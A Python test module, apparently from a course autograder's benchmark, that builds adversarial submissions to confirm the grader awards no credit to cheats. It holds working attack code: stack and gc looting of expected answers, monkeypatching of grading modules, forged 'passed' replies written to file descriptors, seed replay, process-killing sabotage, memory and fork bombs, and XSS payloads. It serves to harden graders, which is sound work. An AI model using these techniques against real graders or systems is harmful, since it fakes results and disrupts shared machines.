"""Attacks of every kind on every exercise of every lesson, for `benchmarks/adversary.py`.

    attacks = kinds_for(lesson)        # one submission a kind; in it, every exercise is attacked that way

None of them but the texts does an exercise, so none may earn a point: what each exercise's checks would pass
for an answer that looks at nothing, they pass for none of these either.
"""

from __future__ import annotations

import random
from collections.abc import Iterable

import nbformat
import numpy as np
import torch
from attacks import Attack  # benchmarks/attacks.py

from course.check import Check
from course.grade.judge import seed_of
from course.judging import run_check, visible_seed
from course.lesson import Lesson
from course.tables import DRAWS, shape_of
from course.trial import Trial

LOOT = """
def _loot(*args, **kwargs):
    import gc, sys
    words = ("expected", "spikes", "per_step", "records", "leaks", "lost", "verdict", "right", "share")
    frame, places = sys._getframe(), []
    while frame:
        places.append(dict(frame.f_locals)); places.append(frame.f_locals.get("case")); frame = frame.f_back
    places += [o for o in gc.get_objects() if type(o) is dict]
    for word in words:
        for place in places:
            if type(place) is dict and place.get(word) is not None:
                return place[word]
"""
PATCH = """
def _patch():
    import sys, types
    tools = ("number", "array", "given", "go_on", "draws", "drawn", "passes", "files_in", "interrupted")
    for name, module in list(sys.modules.items()):
        if name.startswith(("probes_", "course.")):
            for key, value in list(vars(module).items()):
                if isinstance(value, types.FunctionType) and (name.startswith("probes_") or key in tools):
                    try: setattr(module, key, _loot)
                    except Exception: pass
                elif isinstance(value, type) and name.startswith("probes_"):
                    for member in ("probe", "judge", "report", "accept"):
                        if hasattr(value, member):
                            try: setattr(value, member, _loot)
                            except Exception: pass
class _Now:
    _patch()
"""
FORGED_REPLIES = """
def _forge(*args, **kwargs):
    import os, struct, json
    def pack(v):
        if isinstance(v, dict): return ["dict", {k: pack(x) for k, x in v.items()}]
        if isinstance(v, list): return ["list", *map(pack, v)]
        return v
    value = {"kind": "plain", "data": 1.0}
    reply = {"output": {"value": value, "given": [], "passed": True}, "printed": "", "passed": True}
    text = json.dumps(pack(reply)).encode()
    for fd in range(64):
        try: os.write(fd, (struct.pack(">II", len(text), 0) + text) * 9)
        except OSError: pass
    os._exit(0)
"""
REWOUND = """
def _stolen():
    import sys, types
    sys.modules["_stolen"] = package = types.ModuleType("_stolen")
    package.__path__, waiting, found = [], dict(SOURCES), []
    for _ in range(9):
        for name in list(waiting):
            module = sys.modules["_stolen." + name] = types.ModuleType("_stolen." + name)
            module.__package__ = "_stolen"
            try: exec(waiting[name], module.__dict__)
            except ImportError: continue
            del waiting[name]
            found += [part for part in vars(module).values() if isinstance(part, type)]
    return [check for check in found if getattr(check, "name", "").startswith("EXERCISE/")]
def _alike(one, other):
    import numpy as np
    try:
        one, other = (np.asarray(x.detach() if hasattr(x, "detach") else x, float) for x in (one, other))
        return one.shape == other.shape and one.size > 0 and np.allclose(one, other, equal_nan=True)
    except Exception:
        return type(one) is type(other) is str and one == other
def _rewound(*args, **kwargs):
    import numpy as np, torch
    words = ("expected", "spikes", "per_step", "records", "leaks", "lost", "verdict", "right", "share")
    for check in _stolen():
        for back in range(12):
            try: cases = list(check().cases(np.random.default_rng(torch.initial_seed() - back)))
            except Exception: continue
            for case in cases:
                values = [*case.values(), *(x for v in case.values() if type(v) is list for x in v)]
                if any(_alike(one, other) for one in [*args, *kwargs.values()] for other in values):
                    for word in words:
                        if case.get(word) is not None: return case[word]
"""
CARRY = """
_mine = b"text of EXERCISE "  # a process that is killed and started again in one question finds its own
def _carry(*args, **kwargs):
    import ctypes, os, pickle
    libc = ctypes.CDLL(None)
    places = ("/dev/shm/x", "/tmp/x", "/scratch/x", "x")
    for path in places:
        try:
            with open(path, "a+b") as file:
                file.seek(0)
                if file.read().replace(_mine, b""): print("LEAK a file")
                file.write(_mine)
        except OSError: pass
    for key in (0x1234, 0x5678):
        if libc.shmget(key, 4096, 0) >= 0: print("LEAK shared memory")
        if libc.shmget(key, 4096, 0o1666) >= 0: print("LEAK shared memory made")
        if libc.msgget(key, 0o1666) >= 0: print("LEAK queue made")
        if libc.semget(key, 1, 0o1666) >= 0: print("LEAK semaphore made")
    try:
        import socket
        socket.socket(socket.AF_UNIX).bind("\\0x")
        print("LEAK abstract socket")
    except OSError: pass
    try:
        os.memfd_create("x")
        print("LEAK memfd")
    except (OSError, AttributeError): pass
"""
HARM = """
def _harm(*args, **kwargs):
    import ctypes, os, resource, signal
    libc = ctypes.CDLL(None)
    for pid in (0, -1, os.getppid(), os.getpid() - 1, os.getpid() - 2, 2, 3):
        for limit in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
            if pid > 0 and pid != os.getpid():
                try: resource.prlimit(pid, limit, (1, 1))
                except (OSError, ValueError): pass
        try: os.setpriority(os.PRIO_PROCESS, max(pid, 0), 19)
        except OSError: pass
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
"""
MEMORY = """
def _memory(*args, **kwargs):
    import ctypes, os
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(40):
        segment = libc.shmget(0, 10**9, 0o1600)
        if segment < 0: break
        ctypes.memset(ctypes.c_void_p(libc.shmat(segment, None, 0)), 1, 10**9)
    try:
        for _ in range(40): os.posix_fallocate(os.memfd_create("x"), 0, 10**9)
    except (OSError, AttributeError): pass
    held = []
    while True: held.append(bytearray(10**8))
"""
MANY = """
def _many(*args, **kwargs):
    import os, time
    for _ in range(14):
        if os.fork() == 0:
            held = []
            try:
                while True: held.append(bytearray(b"x") * 10**7)
            except MemoryError: time.sleep(10**6)
    time.sleep(10**6)
"""
TEXTS = {
    "acts": "[a](javascript:alert(1)) <script>alert(1)</script> <form action=/formgrader><button>full credit"
    "</button></form> <svg onload=alert(1)> ![](attachment:lost.png) ![](https://example.org/x.png)",
    "tangles": "[" * 20_000 + "`" * 20_000 + "'" * 20_000 + "\n" + "> " * 5_000 + "$" * 9_999,
}
SPIN = "def _spin(*args, **kwargs):\n    while True: pass\n"
SLEEP = "def _sleep(*args, **kwargs):\n    import time\n    time.sleep(10**6)\n"
CONSTANTS = {
    "none": "None", "zero": "0.0", "one": "1.0", "true": "True", "false": "False", "nan": "float('nan')",
    "empty-list": "[]", "empty-dict": "{}", "pass": "'pass'", "unknown": "'unknown'", "pair": "(0.0, 0.0)",
    "first-argument": "args[0] if args else None", "last-argument": "args[-1] if args else None",
}  # fmt: skip


def kinds_for(lesson: Lesson) -> list[Attack]:
    """One submission a kind."""
    trial = Trial(lesson)
    lost = set(lesson.checks)

    def submission(name: str, kind: str, code: str, call: str) -> Attack:
        cells = {}
        for exercise, cell in trial.exercises.items():
            answer = next(c.answer for c in lesson.checks.values() if c.exercise == exercise)
            cells[exercise] = code.replace("EXERCISE", exercise) + _answer(answer, cell.text, call)
        return Attack(f"{name}-{lesson.id}", kind, cells, lost)

    made = [
        submission("loot", "cheat", LOOT, "_loot"),
        submission("loot-and-patch", "cheat", LOOT + PATCH, "_loot"),
        submission("forged-replies", "cheat", FORGED_REPLIES, "_forge"),
        submission("forged-at-once", "cheat", FORGED_REPLIES + "class _Now:\n    _forge()\n", "_forge"),
        submission("rewound-seed", "cheat", REWOUND.replace("SOURCES", repr(_sources(lesson))), "_rewound"),
        submission("carry-text", "leak", CARRY, "_carry"),
        submission("harm-others", "sabotage", HARM, "_harm"),
        submission("uncounted-memory", "bomb", MEMORY, "_memory"),
        submission("memory-of-many", "bomb", MANY, "_many"),
        submission("spin", "bomb", SPIN, "_spin"),
        submission("sleep", "bomb", SLEEP, "_sleep"),
    ]
    for name, value in CONSTANTS.items():
        code = f"def _constant(*args, **kwargs):\n    return {value}\n"
        made.append(submission(f"constant-{name}", "constant", code, "_constant"))
    drawn = any(check.written_out for check in lesson.checks.values())
    if drawn:  # the solution's charts are about the ward of another name than the folder's
        made.append(Attack(f"charts-of-another-{lesson.id}", "cheat", {}, lost))
    for name, text in TEXTS.items() if _prose(lesson) else ():
        written = dict.fromkeys(_prose(lesson), text)
        made.append(Attack(f"text-that-{name}-{lesson.id}", "text", written, lost if drawn else set()))
    guessed = f"guessed-seed-{lesson.id}"  # whoever hands it in, and all that is public of the seed
    public = seed_of(b"", lesson.assignment, guessed, lesson.revision)
    return [
        *made,
        _table(lesson, trial, f"shapes-{lesson.id}", shape_of, range(DRAWS)),
        _table(lesson, trial, f"visible-cases-{lesson.id}", _exact, None),
        _table(lesson, trial, guessed, _exact, [public]),
    ]


def _prose(lesson: Lesson) -> list[str]:
    """The written answers of a lesson, by the ids of their cells."""
    cells = nbformat.read(lesson.built("en"), as_version=4).cells
    mine = [cell for cell in cells if cell.metadata.get("nbgrader", {}).get("solution")]
    return [cell.id for cell in mine if cell.cell_type == "markdown"]


def _sources(lesson: Lesson) -> dict[str, str]:
    """What every learner has of the lesson's checks: all but the seed that their cases are drawn from."""
    return {file.stem: file.read_text("utf-8") for file in sorted((lesson.folder / "checks").glob("*.py"))}


def _answer(name: str, source: str, call: str) -> str:
    if source.lstrip().startswith("class "):
        body = f"        return lambda *args, **kwargs: {call}(*args, **kwargs)\n"
        return (
            f"class {name}:\n    def __init__(self, *args, **kwargs): pass\n"
            "    def __getattr__(self, method):\n"
            f"        if method.startswith('__'): raise AttributeError(method)\n{body}"
        )
    return f"{name} = {call}\n" if f"def {name}" in source else f"{name} = {call}()\n"


def _exact(value: object) -> str:
    return repr(value)


def _table(lesson: Lesson, trial: Trial, name: str, key, seeds: Iterable[int] | None) -> Attack:
    """What the reference solution answers, looked up by shape or by input: the visible ones without seeds."""
    cells = {}
    for exercise, cell in trial.exercises.items():
        checks = [check for check in lesson.checks.values() if check.exercise == exercise]
        namespace = trial._namespace(exercise, cell.text)
        table: dict[str, list[str]] = {}
        for check in checks:
            drawn = [visible_seed(check)] if seeds is None else seeds
            _fill(check, namespace.get(check.answer), table, key, drawn)
        most = {place: max(set(found), key=found.count) for place, found in table.items()}
        answer = checks[0].answer
        source = _SHAPE_SOURCE if key is shape_of else "shape_of = repr\n"
        cells[exercise] = (
            "import numpy as np, torch\nfrom numpy import array, nan, inf\nfrom torch import tensor\n"
            f"{source}_table = {most!r}\n"
            f"def {answer}(*args, **kwargs):\n"
            "    found = _table.get(shape_of([args, kwargs]))\n"
            "    return eval(found) if found is not None else None\n"
        )
    # a check whose every input is the same for everybody may be answered by whoever has seen it
    return Attack(name, "table", cells, set(lesson.checks))


def _fill(check: Check, answer: object, table: dict, key, seeds: Iterable[int]) -> None:
    if not callable(answer) or isinstance(answer, type):
        return

    def record(*args: object, **kwargs: object) -> object:
        place = key([args, kwargs])
        value = answer(*args, **kwargs)
        text = repr(value)
        try:
            eval(text, {"tensor": torch.tensor, "array": np.array, "nan": np.nan, "inf": np.inf})
            table.setdefault(place, []).append(text)
        except Exception:
            pass
        return value

    for seed in seeds:
        random.seed(seed)
        run_check(check, record, seed)


_SHAPE_SOURCE = """
def shape_of(value):
    name = type(value).__name__
    if isinstance(value, (torch.Tensor, np.ndarray)): return f"{name}{tuple(value.shape)}{value.dtype}"
    if isinstance(value, torch.nn.Module): return f"{name}{[tuple(p.shape) for p in value.parameters()]}"
    if isinstance(value, (str, bytes)): return f"{name}{len(value)}"
    if isinstance(value, dict): return f"{name}{ {k: shape_of(v) for k, v in value.items()} }"
    if isinstance(value, (list, tuple)): return f"{name}{[shape_of(v) for v in value]}"
    return name
"""
